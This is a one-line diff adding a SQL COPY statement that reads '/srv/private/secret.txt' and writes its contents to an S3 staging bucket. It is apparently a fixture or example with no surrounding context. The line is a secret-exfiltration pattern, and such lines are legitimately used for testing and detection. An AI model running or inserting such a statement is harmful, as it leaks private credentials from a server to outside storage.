@@ -1,0 +1,1 @@
+COPY (SELECT content FROM read_text('/srv/private/secret.txt')) TO 's3://lake/staging/SESSION/a.csv'
